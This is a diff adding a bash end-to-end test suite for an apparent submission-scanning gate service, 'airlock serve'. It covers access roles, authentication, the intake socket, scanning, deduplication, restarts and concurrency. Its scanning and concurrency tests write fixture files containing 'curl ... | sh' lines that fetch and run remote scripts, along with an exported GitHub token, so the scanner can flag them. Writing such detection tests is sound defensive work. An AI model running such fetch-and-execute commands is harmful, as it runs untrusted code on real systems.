@@ -1,0 +1,1120 @@
+#!/usr/bin/env bash
+# e2e_serve.sh - end-to-end tests of the gate service, `airlock serve`, over
+# real HTTP: the role matrix, the intake socket, scanning, deduplication,
+# restarts, concurrency, crashes, limits and errors, metrics, `airlock init`
+# run twice, and stopping with a request in flight. docs/api.md is the
+# contract these tests hold the service to.
+#
+# Run from the repository root:  bash tests/e2e_serve.sh
+# The binary is $AIRLOCK_BIN (default build/airlock). Conventions as in
+# tests/e2e_scan.sh: one t_* function per test, each in its own empty
+# directory; every test makes its own data directory (`airlock init`) and
+# serves it on a free loopback port with the test rules (tests/data/rules),
+# and stops it at the end (an EXIT trap stops it, and anything it left,
+# when a test fails half-way). Needs curl and sqlite3.
+
+. "$(dirname "${BASH_SOURCE[0]}")/e2e_lib.sh"
+
+command -v curl >/dev/null || { echo "e2e: curl is required" >&2; exit 1; }
+command -v sqlite3 >/dev/null || { echo "e2e: sqlite3 is required" >&2; exit 1; }
+
+# ---- the server ------------------------------------------------------------------
+
+# free_port: a loopback port nothing listens on now.
+free_port() {
+	python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])'
+}
+
+# alive PID: the process exists and is not a zombie.
+alive() {
+	[ -r "/proc/$1/stat" ] || return 1
+	! awk '{ sub(/^.*\) /, ""); exit !($1 == "Z") }' "/proc/$1/stat" 2>/dev/null
+}
+
+# gate_procs: the pids of every process serving ./data (the server and the
+# scan launchers and children it forked, which share its command line).
+gate_procs() {
+	pgrep -f -- "--data $PWD/data " || true
+}
+
+# kill_leftovers: SIGKILLs (by pid) whatever still serves ./data.
+kill_leftovers() {
+	local p
+	for p in $(gate_procs); do
+		kill -KILL "$p" 2>/dev/null
+	done
+}
+
+BG=() # background jobs of the test (curls), killed by the trap
+
+# on_exit: the test's EXIT trap: stops the server and its children, the
+# background jobs, and shows the server's log if the test failed.
+on_exit() {
+	local rc=$? p i
+	for p in "${BG[@]}"; do
+		kill -KILL "$p" 2>/dev/null
+	done
+	if [ -n "${SPID:-}" ] && alive "$SPID"; then
+		kill -TERM "$SPID" 2>/dev/null
+		for i in $(seq 1 30); do
+			alive "$SPID" || break
+			sleep 0.1
+		done
+		kill -KILL "$SPID" 2>/dev/null
+	fi
+	kill_leftovers
+	if [ "$rc" != 0 ] && [ -s serve.log ]; then
+		echo "  --- serve.log (last 20 lines):"
+		tail -n 20 serve.log | sed 's/^/  | /'
+	fi
+	wait 2>/dev/null
+	return "$rc"
+}
+
+# srv_init: `airlock init` of ./data; the admin token in $ADMIN.
+srv_init() {
+	"$BIN" init --data "$PWD/data" >admin.tok 2>init.err ||
+		fail "airlock init failed: $(cat init.err)"
+	ADMIN=$(cat admin.tok)
+	[ -n "$ADMIN" ] || fail "airlock init printed no admin token"
+}
+
+# srv_start [SERVE-OPTIONS...]: serves ./data (init'ed first if need be) on a
+# free port, 2 scanners, the test rules; sets PORT, URL, SPID, SOCK. Fails if
+# it does not answer /healthz within 10 s. The environment of the call is the
+# server's (e.g. AIRLOCK_TEST_CHILD_FAULT=... srv_start).
+srv_start() {
+	local i
+	[ -e data/airlock.db ] || srv_init
+	[ -n "${ADMIN:-}" ] || ADMIN=$(cat admin.tok)
+	trap on_exit EXIT
+	SOCK=$PWD/data/intake.sock
+	for _ in 1 2 3; do
+		PORT=$(free_port)
+		URL=http://127.0.0.1:$PORT
+		echo "--- serve --listen 127.0.0.1:$PORT $*" >>serve.log
+		"$BIN" serve --data "$PWD/data" --listen "127.0.0.1:$PORT" \
+			--scanners 2 --rules "$RULES" "$@" >>serve.log 2>&1 &
+		SPID=$!
+		for i in $(seq 1 200); do
+			curl -s --max-time 2 "$URL/healthz" >/dev/null 2>&1 && return 0
+			alive "$SPID" || break
+			sleep 0.05
+		done
+		if alive "$SPID"; then
+			fail "airlock serve did not answer /healthz within 10 s"
+		fi
+		wait "$SPID"
+		SPID=
+		tail -n 1 serve.log | grep -q 'in use' || break # else: another port
+	done
+	fail "airlock serve did not start: $(tail -n 5 serve.log)"
+}
+
+# srv_term [SECONDS]: SIGTERM; sets STOP_RC to the exit status, or to
+# "timeout" when the server is still there after SECONDS (default 10; it is
+# then left running).
+srv_term() {
+	local max=${1:-10} i rc=0
+	if ! alive "$SPID"; then
+		wait "$SPID" || rc=$?
+		SPID=
+		fail "airlock serve died (exit status $rc) before SIGTERM"
+	fi
+	kill -TERM "$SPID"
+	for i in $(seq 1 $((max * 10))); do
+		alive "$SPID" || break
+		sleep 0.1
+	done
+	if alive "$SPID"; then
+		STOP_RC=timeout
+		return
+	fi
+	STOP_RC=0
+	wait "$SPID" || STOP_RC=$?
+	SPID=
+}
+
+# no_leftovers: nothing serves ./data any more (waits up to 3 s).
+no_leftovers() {
+	local i
+	for i in $(seq 1 30); do
+		[ -z "$(gate_procs)" ] && return 0
+		sleep 0.1
+	done
+	fail "processes left after the server stopped: $(gate_procs | tr '\n' ' ')"
+}
+
+# srv_stop: SIGTERM; the server must exit 0 within 10 s and leave nothing.
+srv_stop() {
+	srv_term 10
+	[ "$STOP_RC" != timeout ] || fail "airlock serve still runs 10 s after SIGTERM"
+	[ "$STOP_RC" = 0 ] || fail "airlock serve exited $STOP_RC after SIGTERM, expected 0"
+	no_leftovers
+	[ ! -e "$SOCK" ] || fail "the intake socket is left behind"
+	check_error_bodies
+}
+
+# srv_kill9: SIGKILLs the server (and, by pid, what it forked).
+srv_kill9() {
+	kill -KILL "$SPID"
+	wait "$SPID" 2>/dev/null
+	SPID=
+	kill_leftovers
+}
+
+# ---- requests --------------------------------------------------------------------
+
+# api METHOD PATH TOKEN [CURL-ARGS...]: a request to the TCP listener; the
+# body in $OUT, the status in $CODE ("000": no answer). TOKEN may be "".
+api() {
+	local m=$1 p=$2 t=$3 auth=()
+	shift 3
+	[ -z "$t" ] || auth=(-H "Authorization: Bearer $t")
+	CODE=$(curl -sS --max-time 30 -o "$OUT" -w '%{http_code}' -X "$m" \
+		"${auth[@]}" "$@" "$URL$p" 2>"$ERR") || true
+}
+
+# sock METHOD PATH TOKEN [CURL-ARGS...]: the same on the intake socket.
+sock() {
+	local m=$1 p=$2 t=$3 auth=()
+	shift 3
+	[ -z "$t" ] || auth=(-H "Authorization: Bearer $t")
+	CODE=$(curl -sS --max-time 30 -o "$OUT" -w '%{http_code}' -X "$m" \
+		"${auth[@]}" --unix-socket "$SOCK" "$@" "http://localhost$p" 2>"$ERR") || true
+}
+
+expect_code() { # CODE WHAT
+	[ "$CODE" = "$1" ] || fail "${2:-request}: HTTP $CODE, expected $1"
+}
+
+# expect_all EXPR WANT [EXPR WANT...]: expect_q for many expressions, in one
+# Python run (each start costs); fails at the first mismatch.
+expect_all() {
+	local msg
+	msg=$(python3 - "$OUT" "$@" 2>&1 <<'EOF'
+import json, re, sys
+d = json.load(open(sys.argv[1], "rb"))
+F = d.get("findings", []) if isinstance(d, dict) else []
+R = lambda rule: [f for f in F if f["rule"] == rule]
+a = sys.argv[2:]
+for e, w in zip(a[0::2], a[1::2]):
+    try:
+        v = str(eval(e))
+    except Exception as x:
+        v = "error: %r" % x
+    if v != w:
+        print("%s: got '%s', expected '%s'" % (e, v, w))
+        break
+EOF
+	) || fail "the answer is not JSON: $msg"
+	[ -z "$msg" ] || fail "$msg"
+}
+
+# expect_error_json [SECRET...]: $OUT looks like {"error": "..."} and holds
+# none of the SECRETs; a copy is kept for the strict check that srv_stop
+# makes of all of them at once (check_error_bodies).
+NERR=0
+expect_error_json() {
+	local s
+	grep -q '"error": *"' "$OUT" || fail "the error body has no \"error\""
+	for s in "$@"; do
+		! grep -qF -- "$s" "$OUT" || fail "the error body repeats '$s'"
+	done
+	NERR=$((NERR + 1))
+	mkdir -p errbodies
+	cp "$OUT" "errbodies/$NERR"
+}
+check_error_bodies() {
+	[ -d errbodies ] || return 0
+	python3 - errbodies/* <<'EOF' || fail "an error body is not exactly {\"error\": STRING}"
+import json, sys
+for f in sys.argv[1:]:
+    d = json.load(open(f, "rb"))
+    assert isinstance(d, dict) and list(d) == ["error"] and isinstance(d["error"], str) and d["error"], f
+EOF
+}
+
+# tok_of_out, id_of_out, sha_of_out: fields of the answer in $OUT.
+tok_of_out() { grep -o '"token": *"alk_[^"]*"' "$OUT" | grep -o 'alk_[^"]*'; }
+id_of_out() { grep -o '"id": *[0-9]*' "$OUT" | head -n 1 | grep -o '[0-9]*$'; }
+sha_of_out() { grep -o '"sha256": *"[0-9a-f]*"' "$OUT" | head -n 1 | grep -o '[0-9a-f]\{64\}'; }
+
+# mk_token ROLE NAME [ON_BEHALF_OF [TTL]]: made by the admin; the token in $TOK.
+mk_token() {
+	local body="{\"role\": \"$1\", \"name\": \"$2\"${3:+, \"on_behalf_of\": \"$3\"}${4:+, \"ttl\": \"$4\"}}"
+	api POST /v1/tokens "$ADMIN" -H 'Content-Type: application/json' --data-binary "$body"
+	expect_code 201 "POST /v1/tokens $body"
+	TOK=$(tok_of_out)
+	[ -n "$TOK" ] || fail "no token in the answer"
+}
+
+# submit TOKEN FILE [QUERY]: POST /v1/submissions over TCP, 201 expected;
+# the id in $SID, the sha256 in $SHA.
+submit() {
+	api POST "/v1/submissions${3:+?$3}" "$1" --data-binary "@$2"
+	expect_code 201 "submit $2"
+	SID=$(id_of_out)
+	SHA=$(sha_of_out)
+	[ -n "$SID" ] && [ -n "$SHA" ] || fail "no id or sha256 in the answer"
+}
+
+# wait_state ID STATE [SECONDS]: polls GET /v1/submissions/ID (admin, TCP)
+# until its state is STATE (default 20 s); the submission is then in $OUT.
+wait_state() {
+	local id=$1 want=$2 max=${3:-20} i
+	for i in $(seq 1 $((max * 20))); do
+		api GET "/v1/submissions/$id" "$ADMIN"
+		[ "$CODE" = 200 ] && grep -q "^  \"state\": \"$want\"" "$OUT" && return 0
+		sleep 0.05
+	done
+	fail "submission $id: not '$want' after ${max}s (HTTP $CODE)"
+}
+
+# count_state STATE: how many submissions the admin sees in STATE.
+count_state() {
+	api GET "/v1/submissions?state=$1&limit=1000" "$ADMIN"
+	grep -c "^      \"state\": \"$1\"" "$OUT"
+}
+
+nrows() { sqlite3 data/airlock.db "SELECT count(*) FROM $1"; }
+nobjects() { find data/objects -type f | wc -l; }
+ntmp() { find data/tmp -mindepth 1 | wc -l; }
+integrity_ok() {
+	local r
+	r=$(sqlite3 data/airlock.db 'PRAGMA integrity_check' 2>&1)
+	[ "$r" = ok ] || fail "integrity_check: $r"
+}
+
+# ---- 1. the role matrix ------------------------------------------------------------
+
+# The whole table of docs/api.md: every role against every endpoint. Every
+# answer is kept and checked at the end, all mismatches reported together.
+t_role_matrix() {
+	local role t exp i ep
+	srv_start
+	mk_token agent agent-1 alice
+	local AG=$TOK
+	mk_token agent agent-2 bob
+	local AG2=$TOK
+	mk_token reviewer rev-1
+	local RV=$TOK
+	mk_token ci ci-1
+	local CI=$TOK
+	mk_token auditor aud-1
+	local AU=$TOK
+	for role in agent reviewer ci auditor admin; do
+		mk_token reviewer "victim-$role"
+	done
+	printf 'mine\n' >a.txt
+	submit "$AG" a.txt 'name=a.txt'
+	local S1=$SID
+	printf 'theirs\n' >b.txt
+	submit "$AG2" b.txt 'name=b.txt'
+	local S2=$SID
+	printf 'more\n' >c.txt
+
+	declare -A TOKS=([agent]=$AG [reviewer]=$RV [ci]=$CI [auditor]=$AU [admin]=$ADMIN)
+	# metrics submit list show content events tcreate tlist trevoke
+	declare -A WANT=(
+		[agent]='403 201 200 200 403 403 403 403 403'
+		[reviewer]='403 403 200 200 200 200 403 403 403'
+		[ci]='403 403 200 200 403 403 403 403 403'
+		[auditor]='200 403 200 200 200 200 403 403 403'
+		[admin]='200 403 200 200 200 200 201 200 200'
+	)
+	local EPS=(metrics submit list show content events tcreate tlist trevoke)
+	: >matrix.txt
+	for role in agent reviewer ci auditor admin; do
+		t=${TOKS[$role]}
+		read -r -a exp <<<"${WANT[$role]}"
+		for i in "${!EPS[@]}"; do
+			ep=${EPS[$i]}
+			case $ep in
+			metrics) api GET /metrics "$t" ;;
+			submit) api POST '/v1/submissions?name=c.txt' "$t" --data-binary @c.txt ;;
+			list) api GET /v1/submissions "$t" ;;
+			show) api GET "/v1/submissions/$S1" "$t" ;;
+			content) api GET "/v1/submissions/$S1/content" "$t" ;;
+			events) api GET "/v1/submissions/$S1/events" "$t" ;;
+			tcreate) api POST /v1/tokens "$t" --data-binary "{\"role\": \"admin\", \"name\": \"made-by-$role\"}" ;;
+			tlist) api GET /v1/tokens "$t" ;;
+			trevoke) api DELETE "/v1/tokens/victim-$role" "$t" ;;
+			esac
+			cp "$OUT" "m.$role.$ep"
+			echo "$role $ep $CODE ${exp[$i]}" >>matrix.txt
+		done
+	done
+	# "own": another agent's submission is 404 to an agent, and not listed.
+	api GET "/v1/submissions/$S2" "$AG"
+	cp "$OUT" m.agent.other-show
+	echo "agent other-show $CODE 404" >>matrix.txt
+	api GET "/v1/submissions/$S1" "$AG2"
+	cp "$OUT" m.agent2.other-show
+	echo "agent2 other-show $CODE 404" >>matrix.txt
+	api GET /v1/submissions "$AG2"
+	cp "$OUT" m.agent2.list
+	echo "agent2 list $CODE 200" >>matrix.txt
+	# Afterwards: what the refused calls did not do.
+	api GET /v1/tokens "$ADMIN"
+	cp "$OUT" tokens.json
+	python3 - "$S1" "$S2" "$(nrows submissions)" >mismatches.txt <<'EOF'
+import json, sys
+S1, S2, nsub = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
+mine = open("a.txt", "rb").read()
+bad = []
+def load(b):
+    try:
+        return json.loads(b)
+    except ValueError:
+        return None
+agent_sub = None
+for line in open("matrix.txt"):
+    role, ep, got, want = line.split()
+    body = open("m.%s.%s" % (role, ep), "rb").read()
+    if got != want:
+        bad.append("%s %s: HTTP %s, expected %s" % (role, ep, got, want))
+        continue
+    d = load(body) if got in ("401", "403", "404") or ep not in ("content", "metrics") else None
+    if got in ("401", "403", "404"):
+        if not (isinstance(d, dict) and list(d) == ["error"] and isinstance(d["error"], str)):
+            bad.append("%s %s: the %s body is not {\"error\": STRING}" % (role, ep, got))
+        continue
+    if ep == "content" and body != mine:
+        bad.append("%s content: not the submitted bytes" % role)
+    elif ep == "metrics" and b"airlock_submissions{" not in body:
+        bad.append("%s metrics: no airlock_submissions" % role)
+    elif ep == "submit":
+        agent_sub = d["id"]
+    elif ep == "show" and (d["id"] != S1 or d["name"] != "a.txt"):
+        bad.append("%s show: not submission %d" % (role, S1))
+    elif ep == "events" and [e["action"] for e in d["events"]][:1] != ["submit"]:
+        bad.append("%s events: the first is not 'submit'" % role)
+    elif ep == "list":
+        ids = sorted(s["id"] for s in d["submissions"])
+        if role == "agent" and ids != sorted([S1, agent_sub]):
+            bad.append("agent list: %s, expected only its own %s" % (ids, sorted([S1, agent_sub])))
+        if role == "agent2" and ids != [S2]:
+            bad.append("agent-2 list: %s, expected [%d]" % (ids, S2))
+        if role not in ("agent", "agent2") and ids != sorted([S1, S2, agent_sub]):
+            bad.append("%s list: %s, expected all" % (role, ids))
+    elif ep == "tcreate" and (not d["token"].startswith("alk_") or sorted(d) != ["expires_at", "name", "on_behalf_of", "role", "token"]):
+        bad.append("admin tcreate: %s" % sorted(d))
+    elif ep == "tlist" and (b"alk_" in body or "victim-agent" not in [t["name"] for t in d["tokens"]]):
+        bad.append("admin tlist: shows a token, or lacks victim-agent")
+    elif ep == "trevoke" and d != {"name": "victim-admin", "revoked": True}:
+        bad.append("admin trevoke: %r" % d)
+tokens = json.load(open("tokens.json"))["tokens"]
+made = sorted(t["name"] for t in tokens if t["name"].startswith("made-by-"))
+if made != ["made-by-admin"]:
+    bad.append("tokens made: %s, expected only made-by-admin" % made)
+revoked = sorted(t["name"] for t in tokens if t["revoked_at"])
+if revoked != ["victim-admin"]:
+    bad.append("tokens revoked: %s, expected only victim-admin" % revoked)
+if nsub != 3:
+    bad.append("%d submissions, expected 3 (only the agent may submit)" % nsub)
+for b in bad:
+    print(b)
+EOF
+	if [ -s mismatches.txt ]; then
+		sed 's/^/  mismatch: /' mismatches.txt
+		fail "$(wc -l <mismatches.txt) mismatches with the role matrix of docs/api.md"
+	fi
+	srv_stop
+}
+
+# No token, a malformed one, an unknown one, another scheme, or a token in
+# the URL or a cookie: 401 on every authenticated endpoint; /healthz needs none.
+t_unauthenticated_is_401() {
+	local ep m p h unknown n=0
+	srv_start
+	mk_token agent agent-1 alice
+	echo hi >a.txt
+	submit "$TOK" a.txt
+	unknown=alk_$(head -c 32 /dev/urandom | base64 | tr '+/' '-_' | tr -d '=')
+	local EPS=("GET /metrics" "POST /v1/submissions" "GET /v1/submissions"
+		"GET /v1/submissions/$SID" "GET /v1/submissions/$SID/content"
+		"GET /v1/submissions/$SID/events" "POST /v1/tokens" "GET /v1/tokens"
+		"DELETE /v1/tokens/agent-1")
+	local HDRS=("X-None: 1" "Authorization: Bearer" "Authorization: Bearer garbage"
+		"Authorization: Bearer $unknown" "Authorization: Basic YWRtaW46YWRtaW4="
+		"Authorization: bearer $ADMIN" "Authorization: Bearer  $ADMIN"
+		"Authorization: Bearer ${ADMIN}x" "Cookie: token=$ADMIN")
+	: >results.txt
+	for ep in "${EPS[@]}"; do
+		m=${ep%% *}
+		p=${ep#* }
+		for h in "${HDRS[@]}" URL; do
+			n=$((n + 1))
+			if [ "$h" = URL ]; then # a token in the URL is not read
+				api "$m" "$p?token=$ADMIN&access_token=$ADMIN" "" --data-binary '{"role": "admin", "name": "x"}'
+			else
+				api "$m" "$p" "" -H "$h" --data-binary '{"role": "admin", "name": "x"}'
+			fi
+			cp "$OUT" "r.$n"
+			printf '%s\t%s\t%s\t%s\n' "$n" "$CODE" "$ep" "${h:0:44}" >>results.txt
+		done
+	done
+	python3 - "$ADMIN" >mismatches.txt <<'EOF'
+import json, sys
+for line in open("results.txt"):
+    n, code, ep, h = line.rstrip("\n").split("\t")
+    body = open("r." + n, "rb").read()
+    if code != "401":
+        print("%s with '%s': HTTP %s" % (ep, h, code)); continue
+    try:
+        d = json.loads(body)
+        assert list(d) == ["error"] and isinstance(d["error"], str)
+    except Exception:
+        print("%s with '%s': the 401 body is not {\"error\": STRING}" % (ep, h))
+    if sys.argv[1].encode() in body:
+        print("%s with '%s': the answer repeats the token" % (ep, h))
+EOF
+	if [ -s mismatches.txt ]; then
+		sed 's/^/  mismatch: /' mismatches.txt
+		fail "$(wc -l <mismatches.txt) requests not answered as a 401 should be"
+	fi
+	[ "$(nrows submissions)" = 1 ] || fail "$(nrows submissions) submissions, expected 1"
+	[ "$(sqlite3 data/airlock.db "SELECT count(*) FROM principals WHERE revoked_at IS NOT NULL OR name = 'x'")" = 0 ] ||
+		fail "a token was made or revoked"
+	api GET /healthz ""
+	expect_code 200 "GET /healthz without a token"
+	expect_all 'd["status"]' ok 'bool(d["version"]) and d["schema"] >= 1' True
+	srv_stop
+}
+
+# ---- 2. the intake socket ----------------------------------------------------------
+
+t_intake_socket() {
+	local me
+	me=$(id -u)
+	srv_start
+	[ -S "$SOCK" ] || fail "no intake socket at $SOCK"
+	[ "$(stat -c %a "$SOCK")" = 666 ] || fail "intake socket mode $(stat -c %a "$SOCK"), expected 666"
+	mk_token agent agent-1 alice
+	local AG=$TOK
+	mk_token agent agent-2 bob
+	local AG2=$TOK
+	mk_token reviewer rev-1
+	local RV=$TOK
+	echo 'from the sandbox' >a.txt
+	sock POST '/v1/submissions?name=a.txt&label=task=T-1' "$AG" --data-binary @a.txt
+	expect_code 201 "agent submits on the socket"
+	local S1
+	S1=$(id_of_out)
+	echo 'from the other sandbox' >b.txt
+	sock POST '/v1/submissions?name=b.txt' "$AG2" --data-binary @b.txt
+	expect_code 201 "agent-2 submits on the socket"
+	local S2
+	S2=$(id_of_out)
+	echo 'over tcp' >c.txt
+	submit "$AG" c.txt name=c.txt
+	local S3=$SID
+
+	# Only submit, list and show exist there, even for the admin.
+	sock GET /metrics "$ADMIN"
+	expect_code 404 "GET /metrics on the socket (admin)"
+	expect_error_json "$ADMIN"
+	sock GET /v1/tokens "$ADMIN"
+	expect_code 404 "GET /v1/tokens on the socket (admin)"
+	sock POST /v1/tokens "$ADMIN" --data-binary '{"role": "admin", "name": "sock-admin"}'
+	expect_code 404 "POST /v1/tokens on the socket (admin)"
+	sock DELETE /v1/tokens/agent-2 "$ADMIN"
+	expect_code 404 "DELETE /v1/tokens/NAME on the socket (admin)"
+	sock GET "/v1/submissions/$S1/content" "$ADMIN"
+	expect_code 404 "GET .../content on the socket (admin)"
+	sock GET "/v1/submissions/$S1/events" "$ADMIN"
+	expect_code 404 "GET .../events on the socket (admin)"
+	sock GET /healthz ""
+	expect_code 404 "GET /healthz on the socket (not one of its endpoints)"
+	[ "$(sqlite3 data/airlock.db "SELECT count(*) FROM principals WHERE name = 'sock-admin' OR revoked_at IS NOT NULL")" = 0 ] ||
+		fail "a token call on the socket changed the tokens"
+
+	# On the socket every caller sees only its own submissions.
+	sock GET /v1/submissions "$ADMIN"
+	expect_code 200 "admin list on the socket"
+	expect_all 'd["submissions"]' '[]'
+	sock GET "/v1/submissions/$S1" "$ADMIN"
+	expect_code 404 "admin show of an agent's submission on the socket"
+	sock GET /v1/submissions "$RV"
+	expect_code 200 "reviewer list on the socket"
+	expect_all 'd["submissions"]' '[]'
+	sock POST /v1/submissions "$ADMIN" --data-binary @a.txt
+	expect_code 403 "admin submit on the socket"
+	sock GET /v1/submissions ""
+	expect_code 401 "list on the socket without a token"
+	sock GET /v1/submissions "$AG"
+	expect_code 200 "agent list on the socket"
+	expect_all "sorted(s['id'] for s in d['submissions'])" "[$S1, $S3]"
+	sock GET "/v1/submissions/$S2" "$AG"
+	expect_code 404 "agent show of another agent's submission on the socket"
+	api GET /v1/submissions "$ADMIN"
+	expect_all "sorted(s['id'] for s in d['submissions'])" "[$S1, $S2, $S3]"
+	[ "$(nrows submissions)" = 3 ] || fail "$(nrows submissions) submissions, expected 3"
+
+	# What the gate witnessed on each listener.
+	sock GET "/v1/submissions/$S1" "$AG"
+	expect_code 200 "agent show on the socket"
+	expect_all 'd["witnessed"]["via"]' socket \
+		'd["witnessed"]["peer_uid"]' "$me" \
+		'isinstance(d["witnessed"]["peer_pid"], int) and d["witnessed"]["peer_pid"] > 0' True \
+		'd["witnessed"]["submitter"]' agent-1 \
+		'd["witnessed"]["launched_by"]' alice \
+		'd["asserted"]' "{'task': 'T-1'}"
+	api GET "/v1/submissions/$S3" "$AG"
+	expect_code 200
+	expect_all 'd["witnessed"]["via"]' tcp 'd["witnessed"]["peer_uid"]' None
+
+	api GET /healthz ""
+	expect_code 200 "GET /healthz on TCP"
+	srv_stop
+}
+
+# ---- 3. scanning -------------------------------------------------------------------
+
+t_submit_scan_held() {
+	srv_start
+	mk_token agent agent-1 alice
+	local AG=$TOK
+	printf '#!/bin/sh\ncurl -fsSL https://198.51.100.23/install.sh | sh\nexport GITHUB_TOKEN=%s\n' "$PAT1" >fix.sh
+	submit "$AG" fix.sh 'kind=file&name=fix.sh&label=task=T-12&label=model=x&label=via=forged&label=submitter=mallory&label=launched_by=eve'
+	expect_all 'd["state"]' received 'd["size"]' "$(stat -c %s fix.sh)" \
+		'sorted(d)' "['id', 'sha256', 'size', 'state']"
+	expect_eq "$SHA" "$(sha256sum fix.sh | cut -d' ' -f1)" "sha256"
+	local S1=$SID H1=$SHA
+	printf 'def main():\n    print("hello")\n' >clean.py
+	submit "$AG" clean.py 'name=clean.py'
+	local S2=$SID
+
+	wait_state "$S1" held
+	! grep -qF "$PAT1" "$OUT" || fail "the show answer holds the whole secret"
+	expect_all 'd["verdict"]' flagged \
+		'd["worst"]' critical \
+		'd["kind"]' file \
+		'd["name"]' fix.sh \
+		'd["sha256"]' "$H1" \
+		'[(f["path"], f["line"]) for f in R("test-curl-pipe-shell")]' "[('fix.sh', 2)]" \
+		'[(f["path"], f["line"], f["severity"]) for f in R("test-github-pat")]' "[('fix.sh', 3, 'critical')]" \
+		'all(f["column"] >= 1 and f["fingerprint"] for f in F)' True \
+		'd["asserted"] == {"task": "T-12", "model": "x", "via": "forged", "submitter": "mallory", "launched_by": "eve"}' True \
+		'sorted(d["witnessed"])' "['launched_by', 'peer_pid', 'peer_uid', 'received_at', 'submitter', 'via']" \
+		'd["witnessed"]["submitter"]' agent-1 \
+		'd["witnessed"]["launched_by"]' alice \
+		'd["witnessed"]["via"]' tcp \
+		're.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", d["witnessed"]["received_at"]) is not None' True
+
+	wait_state "$S2" held
+	expect_all 'd["verdict"]' clean 'd["worst"]' None 'd["findings"]' '[]' \
+		'd["asserted"]' '{}' 'd["kind"]' auto 'd["name"]' clean.py
+
+	# The list shows the same, newest first.
+	api GET '/v1/submissions?state=held' "$ADMIN"
+	expect_code 200
+	expect_all '[s["id"] for s in d["submissions"]]' "[$S2, $S1]" \
+		'[s["verdict"] for s in d["submissions"]]' "['clean', 'flagged']" \
+		'any("findings" in s or "scan" in s for s in d["submissions"])' False \
+		'd["submissions"][1]["witnessed"]["submitter"]' agent-1
+	api GET '/v1/submissions?limit=1' "$ADMIN"
+	expect_all '[s["id"] for s in d["submissions"]]' "[$S2]"
+	# The events tell the story.
+	api GET "/v1/submissions/$S1/events" "$ADMIN"
+	expect_code 200
+	expect_all '[e["action"] for e in d["events"]]' "['submit', 'scan.start', 'scan.finish']" \
+		'd["events"][0]["actor"]' agent-1
+	srv_stop
+}
+
+# docs/api.md: a submission shows its scan (ruleset, engine, started_at,
+# finished_at).
+t_show_has_scan_record() {
+	srv_start
+	mk_token agent agent-1 alice
+	echo 'hello' >a.txt
+	submit "$TOK" a.txt name=a.txt
+	wait_state "$SID" held
+	expect_all '"scan" in d' True \
+		'd["scan"]["ruleset"].startswith("sha256:") and bool(d["scan"]["engine"])' True \
+		'bool(d["scan"]["started_at"]) and bool(d["scan"]["finished_at"])' True
+	srv_stop
+}
+
+# ---- 4. deduplication --------------------------------------------------------------
+
+t_identical_bytes_stored_once() {
+	srv_start
+	mk_token agent agent-1 alice
+	local AG=$TOK
+	mk_token agent agent-2 bob
+	head -c 100000 /dev/urandom >blob.bin
+	submit "$AG" blob.bin name=one.bin
+	local S1=$SID H1=$SHA
+	submit "$TOK" blob.bin name=two.bin
+	local S2=$SID H2=$SHA
+	[ "$S1" != "$S2" ] || fail "the same id twice"
+	expect_eq "$H1" "$H2" "sha256 of the two submissions"
+	expect_eq "$H1" "$(sha256sum blob.bin | cut -d' ' -f1)" "sha256"
+	expect_eq "$(nobjects)" 1 "files in data/objects"
+	cmp -s "$(find data/objects -type f)" blob.bin || fail "the stored object is not the bytes"
+	[ "$(nrows submissions)" = 2 ] || fail "$(nrows submissions) submission rows, expected 2"
+	wait_state "$S1" held
+	wait_state "$S2" held
+	api GET "/v1/submissions/$S2/content" "$ADMIN"
+	expect_code 200
+	cmp -s "$OUT" blob.bin || fail "the content of the second submission is not the bytes"
+	expect_eq "$(ntmp)" 0 "files in data/tmp"
+	srv_stop
+}
+
+# ---- 5. restart mid-scan -----------------------------------------------------------
+
+# A scan in flight (a hung child, a 120 s timeout) when the server stops: it
+# must still stop promptly, and the next start scans the submission again.
+t_restart_mid_scan_resumes() {
+	local bug="" t0 i
+	AIRLOCK_TEST_CHILD_FAULT=hang:slow srv_start --timeout 120
+	mk_token agent agent-1 alice
+	echo 'a harmless file' >slow.txt
+	submit "$TOK" slow.txt name=slow.txt
+	local S1=$SID
+	wait_state "$S1" scanning 10
+	t0=$SECONDS
+	srv_term 6
+	if [ "$STOP_RC" = timeout ]; then
+		bug="airlock serve still runs 6 s after SIGTERM while a scan hangs (--timeout 120): SIGTERM waits for the hung scan"
+		srv_kill9
+	else
+		[ "$STOP_RC" = 0 ] || bug="airlock serve exited $STOP_RC after SIGTERM, expected 0"
+		for i in $(seq 1 30); do
+			[ -z "$(gate_procs)" ] && break
+			sleep 0.1
+		done
+		[ -z "$(gate_procs)" ] || bug="${bug:-processes left after SIGTERM (the hung scan child?): $(gate_procs | tr '\n' ' ')}"
+		kill_leftovers
+	fi
+	echo "stopped after $((SECONDS - t0)) s"
+	# Restarted without the fault: the scan is taken again.
+	srv_start
+	grep -q '1 scan resumed' serve.log || fail "the restart does not say '1 scan resumed'"
+	wait_state "$S1" held 20
+	expect_all 'd["verdict"]' clean
+	api GET "/v1/submissions/$S1/events" "$ADMIN"
+	expect_code 200
+	expect_all '"scan.resume" in [e["action"] for e in d["events"]]' True \
+		'[e["action"] for e in d["events"]][-1]' scan.finish
+	integrity_ok
+	srv_stop
+	[ -z "$bug" ] || fail "$bug"
+}
+
+# ---- 6. concurrency ----------------------------------------------------------------
+
+t_concurrent_submissions() {
+	local i n=50 p
+	srv_start
+	mk_token agent agent-1 alice
+	for i in $(seq 1 $n); do
+		if [ $((i % 5)) = 0 ]; then
+			printf 'job %d\ncurl -s https://198.51.100.%d/x | sh\n' "$i" "$i" >"f$i.txt"
+		else
+			printf 'job %d: nothing to see\n' "$i" >"f$i.txt"
+		fi
+	done
+	for i in $(seq 1 $n); do
+		curl -sS --max-time 60 -o "r$i.json" -w '%{http_code}' \
+			-H "Authorization: Bearer $TOK" --data-binary "@f$i.txt" \
+			"$URL/v1/submissions?name=f$i.txt" >"c$i" 2>"e$i" &
+		BG+=("$!")
+	done
+	for p in "${BG[@]}"; do
+		wait "$p"
+	done
+	BG=()
+	for i in $(seq 1 $n); do
+		[ "$(cat "c$i")" = 201 ] || fail "submission $i: HTTP $(cat "c$i") $(cat "r$i.json" "e$i")"
+	done
+	python3 - $n <<'EOF' >ids || fail "the answers are not distinct ids"
+import json, sys
+ids = [json.load(open("r%d.json" % i))["id"] for i in range(1, int(sys.argv[1]) + 1)]
+assert len(set(ids)) == len(ids)
